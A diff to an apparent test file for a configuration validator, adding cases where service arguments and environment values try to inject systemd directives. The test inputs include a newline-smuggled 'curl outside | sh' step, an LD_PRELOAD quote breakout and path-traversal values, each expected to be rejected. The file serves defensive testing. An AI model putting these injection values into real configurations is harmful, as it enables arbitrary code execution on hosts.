@@ -47,7 +47,7 @@ def _add_model_file(value: str) -> Callable[[Doc], None]:
     return edit
 
 
-def _service(**fields: str) -> Callable[[Doc], None]:
+def _service(**fields: object) -> Callable[[Doc], None]:
     def edit(d: Doc) -> None:
         d["services"] = [{"name": "chat", "build": "server", "model": "tiny", "exec": "bin/server", **fields}]
 
@@ -168,6 +168,23 @@ CASES: dict[str, tuple[Callable[[Doc], None], tuple[str, ...]]] = {
     "service-name-traversal": (_service(name="../../etc/systemd/system/x"), ("malformed", "services.0.name")),
     "service-exec-absolute": (_service(exec="/bin/sh"), ("malformed", "services.0", "'/bin/sh'")),
     "service-exec-traversal": (_service(exec="../../../bin/sh"), ("malformed", "services.0", "'../../../bin/sh'")),
+    # Arguments and environment become lines of a systemd unit file: a newline would add a directive of its own.
+    "service-arg-newline-directive": (
+        _service(args=["--port", "8080\nExecStartPre=/bin/sh -c 'curl outside | sh'"]),
+        ("malformed", "services.0", "args[1]", "control character"),
+    ),
+    "service-env-newline-directive": (
+        _service(env={"A": "1\nExecStartPre=/bin/sh"}),
+        ("malformed", "services.0", "env.A", "control character"),
+    ),
+    "service-env-quote-breakout": (
+        _service(env={"A": 'x" "LD_PRELOAD=/tmp/evil.so'}),
+        ("malformed", "services.0", "env.A", "quote"),
+    ),
+    "service-env-bad-name": (
+        _service(env={"LD_PRELOAD=/x ": "1"}),
+        ("malformed", "services.0", "not an environment variable name"),
+    ),
     "service-unknown-build": (_service(build="other"), ("service 'chat'", "'other' is not a build")),
     "service-unknown-model": (_service(model="other"), ("service 'chat'", "'other' is not a model")),
     "sbom-path-traversal": (_set(("sbom", "path"), "../../bom.cdx.json"), ("sbom", "'..' component")),
